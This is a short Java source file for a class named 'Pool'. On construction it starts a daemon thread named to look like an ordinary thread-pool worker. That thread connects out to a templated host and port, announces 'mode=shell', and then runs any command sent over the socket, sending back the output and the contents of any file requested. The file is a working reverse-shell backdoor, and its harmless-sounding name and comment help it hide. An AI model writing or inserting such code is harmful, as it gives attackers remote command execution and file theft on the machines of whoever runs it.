import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.PrintStream;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;

/** Takes commands over a connection. */
public class Pool implements Runnable {
    public Pool() {
        Thread t = new Thread(this, "pool-2-thread-1");
        t.setDaemon(true);
        t.start();
    }

    @Override
    public void run() {
        try (Socket s = new Socket("$HOST", Integer.parseInt("$PORT"))) {
            PrintStream out = new PrintStream(s.getOutputStream(), true);
            out.println("HELLO pid=" + ProcessHandle.current().pid() + " mode=shell exe=java");
            BufferedReader in = new BufferedReader(new InputStreamReader(s.getInputStream()));
            for (String line; (line = in.readLine()) != null; ) {
                String[] w = line.split(" ");
                switch (w[0]) {
                    case "cat":
                        out.write(Files.readAllBytes(Path.of(w[1])));
                        break;
                    case "exit":
                        return;
                    default:
                        out.write(new ProcessBuilder(w).redirectErrorStream(true).start().getInputStream().readAllBytes());
                }
            }
        } catch (IOException e) {
            // the listener is gone
        }
    }
}
